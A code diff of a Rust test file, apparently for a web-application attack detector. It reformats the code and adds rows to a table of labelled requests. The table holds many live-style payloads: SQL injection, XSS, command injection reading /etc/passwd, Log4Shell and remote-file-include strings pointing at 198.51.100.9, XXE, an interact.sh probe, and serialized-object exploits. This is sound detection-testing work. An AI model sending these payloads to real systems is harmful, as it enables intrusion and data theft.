@@ -17,7 +17,14 @@ struct Req {
 }
 
 const fn get(path: &'static str, query: &'static str) -> Req {
-    Req { method: "GET", path, query, headers: &[], body: "", status: 200 }
+    Req {
+        method: "GET",
+        path,
+        query,
+        headers: &[],
+        body: "",
+        status: 200,
+    }
 }
 
 const fn post(path: &'static str, ctype: &'static str, body: &'static str) -> Req {
@@ -27,11 +34,25 @@ const fn post(path: &'static str, ctype: &'static str, body: &'static str) -> Re
         b'f' => &[("content-type", "application/x-www-form-urlencoded")],
         _ => &[("content-type", "text/plain")],
     };
-    Req { method: "POST", path, query: "", headers, body, status: 200 }
+    Req {
+        method: "POST",
+        path,
+        query: "",
+        headers,
+        body,
+        status: 200,
+    }
 }
 
 const fn with_headers(path: &'static str, headers: &'static [(&'static str, &'static str)]) -> Req {
-    Req { method: "GET", path, query: "", headers, body: "", status: 200 }
+    Req {
+        method: "GET",
+        path,
+        query: "",
+        headers,
+        body: "",
+        status: 200,
+    }
 }
 
 fn event(r: &Req) -> ApiEvent<'static> {
@@ -78,85 +99,316 @@ fn families(r: &Req) -> Vec<String> {
 fn every_family_and_placement() {
     let rows: &[(Req, &[&str])] = &[
         // SQL injection: libinjection, signatures, stacked queries; in every placement.
-        (get("/search", "q=%27%3BSELECT%20*%20FROM%20t%20limit%203--"), &["sqli"]),
+        (
+            get("/search", "q=%27%3BSELECT%20*%20FROM%20t%20limit%203--"),
+            &["sqli"],
+        ),
         (get("/items", "id=1%20union%20select%201,2,3"), &["sqli"]),
         (get("/items", "id=1'%20OR%20'1'%3D'1"), &["sqli"]),
-        (post("/login", "json", r#"{"user": {"name": "admin' or 1=1 -- "}}"#), &["sqli"]),
-        (post("/login", "form", "user=x%27%20or%20sleep(5)%23"), &["sqli"]),
-        (with_headers("/", &[("cookie", "session=1' AND 1=1--")]), &["sqli"]),
+        (
+            post(
+                "/login",
+                "json",
+                r#"{"user": {"name": "admin' or 1=1 -- "}}"#,
+            ),
+            &["sqli"],
+        ),
+        (
+            post("/login", "form", "user=x%27%20or%20sleep(5)%23"),
+            &["sqli"],
+        ),
+        (
+            with_headers("/", &[("cookie", "session=1' AND 1=1--")]),
+            &["sqli"],
+        ),
         // XSS, also double-encoded and as JS escapes.
-        (get("/p", "q=%253Cscript%253Ealert(1)%253C/script%253E"), &["xss"]),
-        (post("/c", "json", r#"{"comment": "\u003cimg src=x onerror=alert(1)\u003e"}"#), &["xss"]),
+        (
+            get("/p", "q=%253Cscript%253Ealert(1)%253C/script%253E"),
+            &["xss"],
+        ),
+        (
+            post(
+                "/c",
+                "json",
+                r#"{"comment": "\u003cimg src=x onerror=alert(1)\u003e"}"#,
+            ),
+            &["xss"],
+        ),
         (get("/p", "q=%3Csvg%20onload%3Dalert(1)%3E"), &["xss"]),
         // Command injection.
-        (get("/ping", "host=127.0.0.1%3Bcat%20/etc/passwd"), &["command_injection", "path_traversal"]),
+        (
+            get("/ping", "host=127.0.0.1%3Bcat%20/etc/passwd"),
+            &["command_injection", "path_traversal"],
+        ),
         (get("/ping", "host=%60id%60"), &["command_injection"]),
-        (post("/run", "form", "cmd=x%7C%20whoami"), &["command_injection"]),
+        (
+            post("/run", "form", "cmd=x%7C%20whoami"),
+            &["command_injection"],
+        ),
         // Traversal and file inclusion.
-        (get("/file", "name=..%2F..%2F..%2Fetc%2Fhosts"), &["path_traversal"]),
-        (get("/file", "name=php://filter/convert.base64-encode/resource=index"), &["path_traversal", "php_injection"]),
-        (get("/get", "foo=%24__%5B%27o%27%5D%285%29"), &["php_injection"]),
-        (post("/post", "form", "test=com.opensymphony.xwork2"), &["code_injection", "java_injection"]),
-        (get("/get", "foo=for%20/f%20%25i%20in%20(set)%20do%20command"), &["command_injection"]),
+        (
+            get("/file", "name=..%2F..%2F..%2Fetc%2Fhosts"),
+            &["path_traversal"],
+        ),
+        (
+            get(
+                "/file",
+                "name=php://filter/convert.base64-encode/resource=index",
+            ),
+            &["path_traversal", "php_injection"],
+        ),
+        (
+            get("/get", "foo=%24__%5B%27o%27%5D%285%29"),
+            &["php_injection"],
+        ),
+        (
+            post("/post", "form", "test=com.opensymphony.xwork2"),
+            &["code_injection", "java_injection"],
+        ),
+        (
+            get("/get", "foo=for%20/f%20%25i%20in%20(set)%20do%20command"),
+            &["command_injection"],
+        ),
         (get("/get", "eval=while(true);"), &["nodejs_injection"]),
-        (get("/get", "foo=this.constructor.constructor"), &["nodejs_injection"]),
-        (get("/items", "id=1%20and%20concat(0x3a,version())"), &["sqli"]),
-        (get("/p", "payload=Left%20(WA,%20RR),%20following%20the%20edge%20(564719)."), &[]),
+        (
+            get("/get", "foo=this.constructor.constructor"),
+            &["nodejs_injection"],
+        ),
+        (
+            get("/items", "id=1%20and%20concat(0x3a,version())"),
+            &["sqli"],
+        ),
+        (
+            get(
+                "/p",
+                "payload=Left%20(WA,%20RR),%20following%20the%20edge%20(564719).",
+            ),
+            &[],
+        ),
         (get("/p", "text=while%20(foo)%20is%20bar."), &[]),
         (get("/p", "var=a%20hero;%20more%20than"), &[]),
         (get("/p", "test=style%3Dcolor:red;background:white"), &[]),
         (get("/p", "doc=%3C%3Fxml%20version%3D%221.0%22%3F%3E"), &[]),
-        (get("/search", "q=JavaScript:%20Basics%20of%20JavaScript%20Language"), &[]),
+        (
+            get(
+                "/search",
+                "q=JavaScript:%20Basics%20of%20JavaScript%20Language",
+            ),
+            &[],
+        ),
         (get("/search", "q=alert?.(document?.cookie)"), &["xss"]),
-        (get("/search", "q=JywgJG9yOiBbIHt9LCB7ICdvcmRlcic6J29yZGVy"), &["nosql_injection"]),
-        (get("/search", "q=userPassword:2.5.13.18:%3D123"), &["ldap_injection"]),
+        (get("/search", "q=confirm.call(null,1)"), &["xss"]),
+        (get("/get", "cmd=strace%20ifconfig"), &["command_injection"]),
+        (
+            get("/get", "cmd=cat%20/etc/pa[s]swd"),
+            &["command_injection"],
+        ),
+        (
+            get("/get", "foo=%26+FOR+%25@+IN+(a,b,c)DO+cmd"),
+            &["command_injection"],
+        ),
+        (
+            get("/get", "foo=exec%20//comment%0a%20(blah)"),
+            &["command_injection", "php_injection"],
+        ),
+        (
+            with_headers("/upload", &[("x-filename", "a.php..")]),
+            &["php_injection"],
+        ),
+        (
+            with_headers("/", &[("cookie", "com.sun.org.apache=test")]),
+            &["java_injection"],
+        ),
+        (get("/docs", "q=python%20tutorial%20for%20beginners"), &[]),
+        (get("/docs", "q=time%20flies%20like%20an%20arrow"), &[]),
+        (
+            with_headers(
+                "/",
+                &[(
+                    "user-agent",
+                    "Mozilla/5.0 root@w63gecoroprj5um8ypnd7r6in9t0hseg3.interact.sh",
+                )],
+            ),
+            &["oast_probe"],
+        ),
+        (
+            post("/xml", "xml", "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>"),
+            &["xxe"],
+        ),
+        (
+            get("/%E5%98%8DSet-cookie:crlf=injection", ""),
+            &["crlf_injection"],
+        ),
+        (
+            get("/search", "q=JywgJG9yOiBbIHt9LCB7ICdvcmRlcic6J29yZGVy"),
+            &["nosql_injection"],
+        ),
+        (
+            get("/search", "q=userPassword:2.5.13.18:%3D123"),
+            &["ldap_injection"],
+        ),
         (get("/search", "q=%0d%0aQUIT%0d%0a"), &["mail_injection"]),
-        (get("/search", "q=%5C%5C::1%5Cc$%5Cusers%5Cdefault%5Cntuser.dat"), &["path_traversal"]),
-        (get("/p", "cmd=Go%20to%20store.%0aAt%20the%20store,%20shop."), &[]),
+        (
+            get("/search", "q=%5C%5C::1%5Cc$%5Cusers%5Cdefault%5Cntuser.dat"),
+            &["path_traversal"],
+        ),
+        (
+            get("/p", "cmd=Go%20to%20store.%0aAt%20the%20store,%20shop."),
+            &[],
+        ),
         (get("/page", "inc=http://198.51.100.9/shell.txt?"), &["rfi"]),
         // Log4Shell at the end of an unusual header, and obfuscated.
-        (with_headers("/", &[("x-api-version", "1.0 ${jndi:ldap://198.51.100.9/a}")]), &["log4shell"]),
-        (with_headers("/", &[("x-q", "${${lower:j}${::-n}di:${lower:l}dap://x/a}")]), &["log4shell"]),
+        (
+            with_headers(
+                "/",
+                &[("x-api-version", "1.0 ${jndi:ldap://198.51.100.9/a}")],
+            ),
+            &["log4shell"],
+        ),
+        (
+            with_headers(
+                "/",
+                &[("x-q", "${${lower:j}${::-n}di:${lower:l}dap://x/a}")],
+            ),
+            &["log4shell"],
+        ),
         // Template injection.
         (get("/hello", "name=%7B%7B7*7%7D%7D"), &["ssti"]),
-        (get("/hello", "name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"), &["ssti"]),
+        (
+            get(
+                "/hello",
+                "name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
+            ),
+            &["ssti"],
+        ),
         // XXE.
-        (post("/soap", "xml", r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#), &["path_traversal", "xxe"]),
+        (
+            post(
+                "/soap",
+                "xml",
+                r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
+            ),
+            &["path_traversal", "xxe"],
+        ),
         // NoSQL operators in JSON and brackets.
-        (post("/login", "json", r#"{"user": "admin", "password": {"$ne": null}}"#), &["nosql_injection"]),
-        (get("/login", "user=admin&password%5B%24ne%5D=x"), &["nosql_injection"]),
+        (
+            post(
+                "/login",
+                "json",
+                r#"{"user": "admin", "password": {"$ne": null}}"#,
+            ),
+            &["nosql_injection"],
+        ),
+        (
+            get("/login", "user=admin&password%5B%24ne%5D=x"),
+            &["nosql_injection"],
+        ),
         // LDAP.
         (get("/people", "cn=*)(uid=*))(|(uid=*"), &["ldap_injection"]),
         // CRLF / header injection and log forging.
-        (get("/r", "next=%0d%0aSet-Cookie:%20a=b"), &["crlf_injection"]),
-        (get("/search", "q=ok%0a127.0.0.1%20-%20admin%20login%20succeeded"), &["crlf_injection"]),
+        (
+            get("/r", "next=%0d%0aSet-Cookie:%20a=b"),
+            &["crlf_injection"],
+        ),
+        (
+            get(
+                "/search",
+                "q=ok%0a127.0.0.1%20-%20admin%20login%20succeeded",
+            ),
+            &["crlf_injection"],
+        ),
         // Server-side includes.
         (get("/p", "q=%3C!--%23exec%20cmd%3D%22ls%22--%3E"), &["ssi"]),
         // Mail header injection.
-        (post("/contact", "form", "email=a%40b.test%0d%0aBcc:%20victim%40c.test"), &["mail_injection"]),
+        (
+            post(
+                "/contact",
+                "form",
+                "email=a%40b.test%0d%0aBcc:%20victim%40c.test",
+            ),
+            &["mail_injection"],
+        ),
         // Serialized objects: a base64 pickle in a cookie, Java, PHP.
-        (with_headers("/", &[("cookie", "prefs=gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==")]), &["deserialization"]),
-        (post("/api", "text", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="), &["deserialization", "java_injection"]),
-        (get("/api", "data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D"), &["deserialization"]),
+        (
+            with_headers(
+                "/",
+                &[(
+                    "cookie",
+                    "prefs=gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+                )],
+            ),
+            &["deserialization"],
+        ),
+        (
+            post(
+                "/api",
+                "text",
+                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
+            ),
+            &["deserialization", "java_injection"],
+        ),
+        (
+            get("/api", "data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D"),
+            &["deserialization"],
+        ),
         // Prototype pollution.
-        (post("/merge", "json", r#"{"__proto__": {"isAdmin": true}}"#), &["prototype_pollution"]),
+        (
+            post("/merge", "json", r#"{"__proto__": {"isAdmin": true}}"#),
+            &["prototype_pollution"],
+        ),
         // GraphQL introspection.
-        (post("/graphql", "json", r#"{"query": "{ __schema { types { name } } }"}"#), &["graphql_abuse"]),
+        (
+            post(
+                "/graphql",
+                "json",
+                r#"{"query": "{ __schema { types { name } } }"}"#,
+            ),
+            &["graphql_abuse"],
+        ),
         // Clean requests in every placement raise nothing.
         (get("/search", "q=O%27Reilly%20books&page=2"), &[]),
         (get("/search", "q=select%20your%20plan"), &[]),
         (get("/api/users/42", ""), &[]),
-        (post("/api/items", "json", r#"{"name": "Tea & biscuits", "price": 3.5, "tags": ["a", "b"]}"#), &[]),
-        (post("/login", "form", "user=alice&password=correct+horse"), &[]),
-        (with_headers("/", &[("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"), ("cookie", "sid=abc123; theme=dark")]), &[]),
-        (post("/graphql", "json", r#"{"query": "query { user(id: 1) { name email } }"}"#), &[]),
+        (
+            post(
+                "/api/items",
+                "json",
+                r#"{"name": "Tea & biscuits", "price": 3.5, "tags": ["a", "b"]}"#,
+            ),
+            &[],
+        ),
+        (
+            post("/login", "form", "user=alice&password=correct+horse"),
+            &[],
+        ),
+        (
+            with_headers(
+                "/",
+                &[
+                    ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
+                    ("cookie", "sid=abc123; theme=dark"),
+                ],
+            ),
+            &[],
+        ),
+        (
+            post(
+                "/graphql",
+                "json",
+                r#"{"query": "query { user(id: 1) { name email } }"}"#,
+            ),
+            &[],
+        ),
         (get("/docs", "q=how%20to%20use%20cat%20and%20grep"), &[]),
     ];
     let mut failures = Vec::new();
     for (req, want) in rows {
         let got = families(req);
         if got != *want {
-            failures.push(format!("{} {}?{} {:?}: got {got:?}, want {want:?}", req.method, req.path, req.query, req.body));
+            failures.push(format!(
+                "{} {}?{} {:?}: got {got:?}, want {want:?}",
+                req.method, req.path, req.query, req.body
+            ));
         }
     }
     assert!(failures.is_empty(), "{}", failures.join("\n"));
@@ -184,8 +436,16 @@ fn severity_follows_the_answer_and_the_alert_says_where() {
         d.observe(&cx, &mut out);
         assert_eq!(out.len(), 1, "{status}");
         assert_eq!(out[0].severity, want, "{status}");
-        assert!(out[0].title.contains("query parameter `host`"), "{}", out[0].title);
-        assert!(out[0].description.contains("`id`"), "{}", out[0].description);
+        assert!(
+            out[0].title.contains("query parameter `host`"),
+            "{}",
+            out[0].title
+        );
+        assert!(
+            out[0].description.contains("`id`"),
+            "{}",
+            out[0].description
+        );
     }
 }
 
@@ -194,11 +454,11 @@ fn severity_follows_the_answer_and_the_alert_says_where() {
 #[test]
 fn random_values_never_panic() {
     const ALPHABET: &[&str] = &[
-        "ä", "ß", "€", "😀", "(", ")", "$", "{", "}", "[", "]", "'", "\"", ";", "|", "&", "`",
-        "<", ">", "/", "\\", ".", "..", "%", "%2", "%25", "%u", "&#", "\\u", "=", ":", "-",
-        "--", "/*", "*/", "#", "\n", "\r", " ", "a", "concat", "system", "while", "for ",
-        " in (", " do ", "${", "jndi:", "lower:", "<?php", "on", "script", "__", "$ne", "*)(",
-        "select", "union", "x", "1", "0x", "cat", "id",
+        "ä", "ß", "€", "😀", "(", ")", "$", "{", "}", "[", "]", "'", "\"", ";", "|", "&", "`", "<",
+        ">", "/", "\\", ".", "..", "%", "%2", "%25", "%u", "&#", "\\u", "=", ":", "-", "--", "/*",
+        "*/", "#", "\n", "\r", " ", "a", "concat", "system", "while", "for ", " in (", " do ",
+        "${", "jndi:", "lower:", "<?php", "on", "script", "__", "$ne", "*)(", "select", "union",
+        "x", "1", "0x", "cat", "id",
     ];
     let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
     let mut next = || {
@@ -211,12 +471,21 @@ fn random_values_never_panic() {
     let mut out = Vec::new();
     for i in 0..3_000u32 {
         let n = (next() % 40) as usize;
-        let value: String = (0..n).map(|_| ALPHABET[(next() % ALPHABET.len() as u64) as usize]).collect();
+        let value: String = (0..n)
+            .map(|_| ALPHABET[(next() % ALPHABET.len() as u64) as usize])
+            .collect();
         let leaked: &'static str = Box::leak(value.into_boxed_str());
         let query: &'static str = Box::leak(format!("q={leaked}").into_boxed_str());
         let headers: &'static [(&'static str, &'static str)] =
             Box::leak(vec![("x-v", leaked), ("cookie", leaked)].into_boxed_slice());
-        let mut r = Req { method: "POST", path: "/x", query, headers, body: leaked, status: 200 };
+        let mut r = Req {
+            method: "POST",
+            path: "/x",
+            query,
+            headers,
+            body: leaked,
+            status: 200,
+        };
         if i % 2 == 0 {
             r.path = leaked;
         }
